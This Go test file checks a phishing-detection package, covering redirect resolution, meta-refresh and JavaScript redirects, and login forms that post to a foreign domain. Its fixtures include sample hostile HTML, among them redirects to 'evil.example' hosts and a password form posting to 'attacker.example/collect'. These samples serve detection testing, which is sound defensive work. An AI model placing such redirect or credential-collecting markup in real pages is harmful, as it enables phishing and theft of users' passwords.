package netprobe

import "testing"

func TestIsRedirect(t *testing.T) {
	t.Parallel()
	for _, status := range []int{301, 302, 303, 307, 308} {
		if !isRedirect(status) {
			t.Errorf("isRedirect(%d) = false, want true", status)
		}
	}
	for _, status := range []int{200, 404, 500} {
		if isRedirect(status) {
			t.Errorf("isRedirect(%d) = true, want false", status)
		}
	}
}

func TestResolveRedirect_Absolute(t *testing.T) {
	t.Parallel()
	next, ok := resolveRedirect("https://bit.ly/abc", "http://evil.tk/login")
	if !ok {
		t.Fatal("expected ok=true")
	}
	if next != "http://evil.tk/login" {
		t.Errorf("next = %q", next)
	}
}

func TestResolveRedirect_Relative(t *testing.T) {
	t.Parallel()
	next, ok := resolveRedirect("https://example.com/a", "/b")
	if !ok {
		t.Fatal("expected ok=true")
	}
	if next != "https://example.com/b" {
		t.Errorf("next = %q", next)
	}
}

func TestResolveRedirect_EmptyLocation(t *testing.T) {
	t.Parallel()
	if _, ok := resolveRedirect("https://example.com/", ""); ok {
		t.Error("expected ok=false for empty Location")
	}
}

func TestInspectContent_MetaRefresh(t *testing.T) {
	t.Parallel()
	body := []byte(`<html><head><meta http-equiv="refresh" content="0;url=http://evil.example"></head></html>`)
	flags := inspectContent(body, "https://example.com/")
	if !contains(flags, "meta_refresh") {
		t.Errorf("flags = %v, want meta_refresh", flags)
	}
}

func TestInspectContent_JSRedirect(t *testing.T) {
	t.Parallel()
	body := []byte(`<script>window.location = "http://evil.example";</script>`)
	flags := inspectContent(body, "https://example.com/")
	if !contains(flags, "js_redirect") {
		t.Errorf("flags = %v, want js_redirect", flags)
	}
}

func TestLoginOnNonDomain(t *testing.T) {
	t.Parallel()
	body := []byte(`<form action="https://attacker.example/collect"><input type="password"></form>`)
	if !loginOnNonDomain(body, "https://example.com/login") {
		t.Error("expected login_on_nondomain to fire for cross-domain form action")
	}
}

func TestLoginOnNonDomain_SameDomain(t *testing.T) {
	t.Parallel()
	body := []byte(`<form action="/login"><input type="password"></form>`)
	if loginOnNonDomain(body, "https://example.com/login") {
		t.Error("expected no flag for same-domain relative form action")
	}
}

func contains(ss []string, s string) bool {
	for _, v := range ss {
		if v == s {
			return true
		}
	}
	return false
}
